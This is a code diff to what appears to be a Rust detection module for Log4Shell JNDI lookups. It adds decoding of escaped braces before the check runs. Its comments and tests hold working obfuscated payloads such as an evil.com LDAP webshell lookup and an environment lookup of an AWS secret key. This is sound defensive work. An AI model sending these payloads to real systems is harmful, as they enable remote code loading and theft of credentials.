@@ -1,18 +1,19 @@
 //! JNDI lookups (Log4Shell, CVE-2021-44228; CRS 944150-944152): Log4j 2 expands `${…}` in any
 //! logged string, and `${jndi:ldap://host/x}` loads a class from that host. Attackers hide the
 //! word with nested lookups that resolve to its letters (`${${lower:j}ndi:…}`,
-//! `${${::-j}${::-n}di:…}`, `${${env:NOPE:-j}ndi:…}`): the lookups are resolved here as Log4j
-//! would before the word is looked for.
+//! `${${::-j}${::-n}di:…}`, `${${env:NOPE:-j}ndi:…}`), and write the braces and letters as
+//! escapes the application's parser undoes (`$\u007b`, `$&lbrace;`): those are undone and the
+//! lookups resolved here as Log4j would before the word is looked for.
 
-use super::more::{Check, Scope};
+use super::more::{unescape, Check, Scope};
 use super::{JNDI_LOOKUP, JNDI_RUNTIME};
 
 pub(crate) const CHECKS: &[Check] = &[
     Check {
         rule: JNDI_LOOKUP,
         scope: Scope::Any,
-        anchors: &["${"],
-        check: |_, lower| resolves_to_jndi(lower),
+        anchors: &["$"],
+        check: |_, lower| resolves_to_jndi(&unescape(lower)),
     },
     Check {
         rule: JNDI_RUNTIME,
@@ -131,6 +132,10 @@ mod tests {
                     "jndi-001",
                 ),
                 ("${ jndi : ldap://x}", "jndi-001"),
+                ("$&lbrace;jndi:ldap://evil.com/webshell}", "jndi-001"),
+                ("$&lbracejndi:ldap://evil.com/webshell}", "jndi-001"),
+                ("$\\u007Bjndi:ldap://evil.com/webshell}", "jndi-001"),
+                ("$&lcub;\\u006Andi:ldap://x}", "jndi-001"),
                 ("${env:AWS_SECRET_ACCESS_KEY}", "jndi-002"),
                 ("${java:version}", "jndi-002"),
             ],
